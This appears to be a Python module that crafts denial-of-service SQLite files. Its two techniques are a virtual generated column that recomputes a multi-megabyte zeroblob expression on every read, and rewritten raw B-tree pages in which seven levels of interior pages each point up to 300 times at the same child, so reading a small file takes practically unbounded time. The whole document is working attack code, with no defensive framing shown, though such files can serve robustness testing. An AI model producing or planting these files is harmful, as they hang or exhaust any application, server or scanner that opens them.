"""Ways of making a small SQLite file endless: values that are computed, and pages that many others point to."""

from __future__ import annotations

import contextlib
import sqlite3
import struct
from pathlib import Path
from typing import Final

COSTLY: Final = "length(replace(hex(zeroblob(2000000)), '0', '11'))"
LEVELS: Final = 7
CHILDREN: Final = 300


def computed(path: Path, table: str) -> None:
    """Have the last column of a table computed at length."""
    with contextlib.closing(sqlite3.connect(path)) as con:
        compute(con, table)
        con.commit()


def compute(con: sqlite3.Connection, table: str) -> None:
    """As `computed`, through a connection."""
    names = [row[1] for row in con.execute(f'PRAGMA table_info("{table}")')]
    kept = ", ".join(f'"{name}"' for name in names[:-1])
    con.execute(f'ALTER TABLE "{table}" RENAME TO "before"')
    con.execute(f'CREATE TABLE "{table}" ({kept}{", " if kept else ""}"{names[-1]}" AS ({COSTLY}) VIRTUAL)')
    if kept:
        con.execute(f'INSERT INTO "{table}" ({kept}) SELECT {kept} FROM "before"')
    con.execute('DROP TABLE "before"')


def shared_pages(path: Path, table: str) -> None:
    """Have the pages of a table lead to one page again and again."""
    with contextlib.closing(sqlite3.connect(path)) as con:
        (root,) = con.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()
    path.write_bytes(shared(path.read_bytes(), root))


def shared(whole: bytes, root: int) -> bytes:
    """The database with the tree at `root` below levels of pages that have one child each, many times."""
    stated = int.from_bytes(whole[16:18], "big")
    size = 65536 if stated == 1 else stated
    made = bytearray(whole)
    made += whole[(root - 1) * size : root * size]
    for _ in range(LEVELS - 1):
        made += _parent(len(made) // size, size)
    made[(root - 1) * size : root * size] = _parent(len(made) // size, size)
    struct.pack_into(">I", made, 28, len(made) // size)
    return bytes(made)


def _parent(child: int, size: int) -> bytes:
    page, at, places = bytearray(size), size, []
    for number in range(1, min(CHILDREN, (size - 12) // 10) + 1):
        cell = struct.pack(">I", child) + (
            bytes([number]) if number < 128 else bytes([0x80 | number >> 7, number & 127])
        )
        at -= len(cell)
        page[at : at + len(cell)] = cell
        places.append(at)
    struct.pack_into(">BHHHBI", page, 0, 5, 0, len(places), at, 0, child)
    struct.pack_into(f">{len(places)}H", page, 12, *places)
    return bytes(page)
